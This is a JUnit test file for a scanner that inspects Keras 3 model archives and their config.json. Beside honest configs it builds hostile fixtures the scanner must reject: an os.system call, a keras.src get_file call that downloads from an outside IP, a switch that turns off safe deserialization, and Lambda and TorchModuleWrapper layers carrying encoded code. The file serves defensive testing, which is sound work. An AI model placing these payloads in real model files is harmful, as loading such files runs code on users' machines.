package io.airlock.scanner.engine;

import io.airlock.contracts.Finding;
import io.airlock.contracts.Kind;
import io.airlock.fixtures.Samples;
import io.airlock.fixtures.ZipBuilder;
import io.airlock.formats.Format;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.stream.Stream;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.params.provider.Arguments.arguments;

/**
 * Keras 3 {@code .keras} archives recognized by their config.json, with or without metadata.json,
 * and every object of the config resolved: what Keras would import, call or build is judged.
 */
class KerasArchiveTest {
    static final ScanOptions PERMISSIVE = ScanPolicy.builtin("permissive").options(ScanOptions.defaults(Kind.MODEL));

    /** The dtype policy object Keras 3.4+ writes into every layer. */
    static final String DTYPE = "{\"module\": \"keras\", \"class_name\": \"DTypePolicy\", \"config\": {\"name\": \"float32\"},"
            + " \"registered_name\": null}";

    /** A Dense layer as Keras 3 serializes it. */
    static String dense(String name, int units, String activation) {
        return "{\"module\": \"keras.layers\", \"class_name\": \"Dense\", \"config\": {\"name\": \"" + name + "\","
                + " \"trainable\": true, \"dtype\": " + DTYPE + ", \"units\": " + units + ", \"activation\": \"" + activation
                + "\", \"use_bias\": true, \"kernel_initializer\": {\"module\": \"keras.initializers\", \"class_name\":"
                + " \"GlorotUniform\", \"config\": {\"seed\": null}, \"registered_name\": null}, \"bias_initializer\":"
                + " {\"module\": \"keras.initializers\", \"class_name\": \"Zeros\", \"config\": {}, \"registered_name\": null},"
                + " \"kernel_regularizer\": null, \"bias_regularizer\": null, \"kernel_constraint\": null, \"bias_constraint\":"
                + " null}, \"build_config\": {\"input_shape\": [null, 4]}, \"registered_name\": null}";
    }

    /** A Sequential model around {@code layers} with Keras 3's compile config (Adam, mse, a metric function). */
    static String sequential(String... layers) {
        return "{\"module\": \"keras\", \"class_name\": \"Sequential\", \"config\": {\"name\": \"sequential\", \"trainable\":"
                + " true, \"dtype\": " + DTYPE + ", \"layers\": [{\"module\": \"keras.layers\", \"class_name\": \"InputLayer\","
                + " \"config\": {\"batch_shape\": [null, 4], \"dtype\": \"float32\", \"sparse\": false, \"name\": \"input_layer\"},"
                + " \"registered_name\": null}, " + String.join(", ", layers) + "], \"build_input_shape\": [null, 4]},"
                + " \"registered_name\": null, \"build_config\": {\"input_shape\": [null, 4]}, \"compile_config\": {\"optimizer\":"
                + " {\"module\": \"keras.optimizers\", \"class_name\": \"Adam\", \"config\": {\"name\": \"adam\", \"learning_rate\":"
                + " 0.001, \"beta_1\": 0.9, \"beta_2\": 0.999, \"epsilon\": 1e-07, \"amsgrad\": false}, \"registered_name\": null},"
                + " \"loss\": {\"module\": \"keras.losses\", \"class_name\": \"MeanSquaredError\", \"config\": {\"name\":"
                + " \"mean_squared_error\", \"reduction\": \"sum_over_batch_size\"}, \"registered_name\": null}, \"metrics\":"
                + " [{\"module\": \"keras.metrics\", \"class_name\": \"function\", \"config\": \"mean_absolute_error\","
                + " \"registered_name\": \"mean_absolute_error\"}], \"run_eagerly\": false, \"jit_compile\": false}}";
    }

    /** A Functional model (Keras writes its internal module and registered name) holding {@code layer} after its input. */
    static String functional(String layer) {
        return "{\"module\": \"keras.src.models.functional\", \"class_name\": \"Functional\", \"config\": {\"name\": \"inner\","
                + " \"trainable\": true, \"layers\": [{\"module\": \"keras.layers\", \"class_name\": \"InputLayer\", \"config\":"
                + " {\"batch_shape\": [null, 4], \"dtype\": \"float32\", \"name\": \"in\"}, \"registered_name\": null, \"name\":"
                + " \"in\", \"inbound_nodes\": []}, " + layer + "], \"input_layers\": [[\"in\", 0, 0]], \"output_layers\":"
                + " [[\"out\", 0, 0]]}, \"registered_name\": \"Functional\"}";
    }

    static final String HONEST = sequential(dense("dense", 8, "relu"), dense("dense_1", 1, "linear"));

    /** A .keras archive as Keras 3's saving_lib writes it: metadata.json, config.json, model.weights.h5. */
    static byte[] keras(String config, boolean metadata) {
        ZipBuilder z = ZipBuilder.zip();
        if (metadata) {
            z.with("metadata.json", utf8("{\"keras_version\": \"3.6.0\", \"date_saved\": \"2024-10-01@12:00:00\"}"));
        }
        return z.with("config.json", utf8(config)).with("model.weights.h5", Samples.hdf5(0)).bytes();
    }

    static byte[] utf8(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }

    @TempDir
    Path dir;

    ScanReport scan(byte[] bytes) throws IOException {
        return new ScanEngine().scan(Files.write(dir.resolve("model.keras"), bytes), PERMISSIVE, StageListener.NONE);
    }

    static Stream<Arguments> honest() {
        String withFunctional = sequential(functional("{\"module\": \"keras.layers\", \"class_name\": \"Dense\", \"config\":"
                + " {\"name\": \"out\", \"units\": 1, \"activation\": {\"module\": \"keras.activations\", \"class_name\":"
                + " \"function\", \"config\": \"sigmoid\", \"registered_name\": \"function\"}}, \"registered_name\": null,"
                + " \"name\": \"out\", \"inbound_nodes\": [{\"args\": [{\"class_name\": \"__keras_tensor__\", \"config\":"
                + " {\"shape\": [null, 4], \"dtype\": \"float32\", \"keras_history\": [\"in\", 0, 0]}}], \"kwargs\": {}}]}"));
        return Stream.of(
                arguments("Sequential of Dense layers with metadata.json", keras(HONEST, true)),
                arguments("the same without metadata.json", keras(HONEST, false)),
                arguments("config.json alone", ZipBuilder.zip().with("config.json", utf8(HONEST)).bytes()),
                arguments("a Functional model nested in a Sequential", keras(withFunctional, true)));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("honest")
    void honestKerasArchivesAreRecognizedAndPass(String name, byte[] bytes) throws IOException {
        ScanReport r = scan(bytes);
        assertThat(r.format()).isEqualTo(Format.KERAS);
        assertThat(r.verdict()).as(HfRepositoryScanTest.rules(r)).isEqualTo(ScanVerdict.PASS);
        assertThat(r.stage(ScanEngine.FOLDER_SCAN).orElseThrow().findings()).as(HfRepositoryScanTest.rules(r)).isEmpty();
        assertThat(r.stage(ScanEngine.FOLDER_SCAN).orElseThrow().details()).containsEntry("folder.kerasArchives", "1");
    }

    static Stream<Arguments> hostile() {
        return Stream.of(
                arguments("config.json alone naming module os", ZipBuilder.zip().with("config.json", utf8(
                        "{\"module\": \"os\", \"class_name\": \"system\", \"config\": {\"command\": \"id\"},"
                                + " \"registered_name\": null}")).bytes(), "keras.foreign_module"),
                arguments("a keras.src function as class_name (CVE-2025-1550 kind), no metadata.json", keras(sequential(
                        "{\"module\": \"keras.src.utils.file_utils\", \"class_name\": \"get_file\", \"config\": {\"fname\":"
                                + " \"x\", \"origin\": \"http://203.0.113.1/x\"}, \"registered_name\": null}"), false),
                        "keras.function_as_class"),
                arguments("safe mode switched off by a keras.config function", keras(sequential(
                        "{\"module\": \"keras.config\", \"class_name\": \"enable_unsafe_deserialization\", \"config\": {},"
                                + " \"registered_name\": null}"), true), "keras.function_as_class"),
                arguments("a Lambda inside a Functional inside a Sequential", keras(sequential(functional(
                        "{\"module\": \"keras.layers\", \"class_name\": \"Lambda\", \"config\": {\"name\": \"out\", \"function\":"
                                + " {\"class_name\": \"__lambda__\", \"config\": {\"code\": \"4wEAAAAAAAAA\"}}},"
                                + " \"registered_name\": null}")), false), "keras.lambda_layer"),
                arguments("a function where a layer's activation belongs that is no Keras activation", keras(sequential(
                        "{\"module\": \"keras.layers\", \"class_name\": \"Dense\", \"config\": {\"units\": 1, \"activation\":"
                                + " {\"module\": \"keras.src.utils\", \"class_name\": \"function\", \"config\": \"get_file\","
                                + " \"registered_name\": \"function\"}}, \"registered_name\": null}"), true), "keras.unresolved"),
                arguments("a class under keras.src that Keras never writes", keras(sequential(
                        "{\"module\": \"keras.src.saving.file_editor\", \"class_name\": \"KerasFileEditor\", \"config\": {},"
                                + " \"registered_name\": null}"), false), "keras.unresolved"),
                arguments("a registered_name other than the class", keras(sequential(
                        "{\"module\": \"keras.layers\", \"class_name\": \"Dense\", \"config\": {\"units\": 1},"
                                + " \"registered_name\": \"Exfiltrate\"}"), true), "keras.unresolved"),
                arguments("a TorchModuleWrapper (torch.load of its config's bytes)", keras(sequential(
                        "{\"module\": \"keras.layers\", \"class_name\": \"TorchModuleWrapper\", \"config\": {\"module\":"
                                + " \"gASVAAAAAAAAAAA=\"}, \"registered_name\": null}"), false), "keras.code_layer"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("hostile")
    void hostileKerasArchivesAreRejectedByTheirRule(String name, byte[] bytes, String rule) throws IOException {
        ScanReport r = scan(bytes);
        assertThat(r.format()).isEqualTo(Format.KERAS);
        assertThat(r.verdict()).as(HfRepositoryScanTest.rules(r)).isEqualTo(ScanVerdict.REJECT);
        assertThat(r.stage(ScanEngine.FOLDER_SCAN).orElseThrow().findings()).extracting(Finding::rule).contains(rule);
    }

    @Test
    void aKerasConfigUnpackedIntoAFolderGetsTheSameRules() throws IOException {
        byte[] folder = ZipBuilder.zip().with("m/config.json", utf8(sequential(
                        "{\"module\": \"keras.src.utils.file_utils\", \"class_name\": \"get_file\", \"config\": {},"
                                + " \"registered_name\": null}")))
                .with("m/tokenizer_config.json", utf8("{\"model_max_length\": 8}")).bytes();
        ScanReport r = scan(folder);
        assertThat(r.format()).isEqualTo(Format.MODEL_FOLDER);
        assertThat(r.stage(ScanEngine.FOLDER_SCAN).orElseThrow().findings()).extracting(Finding::rule)
                .containsExactly("keras.function_as_class");
        ScanReport honest = scan(ZipBuilder.zip().with("m/config.json", utf8(HONEST))
                .with("m/tokenizer_config.json", utf8("{\"model_max_length\": 8}")).bytes());
        assertThat(honest.verdict()).as(HfRepositoryScanTest.rules(honest)).isEqualTo(ScanVerdict.PASS);
    }
}
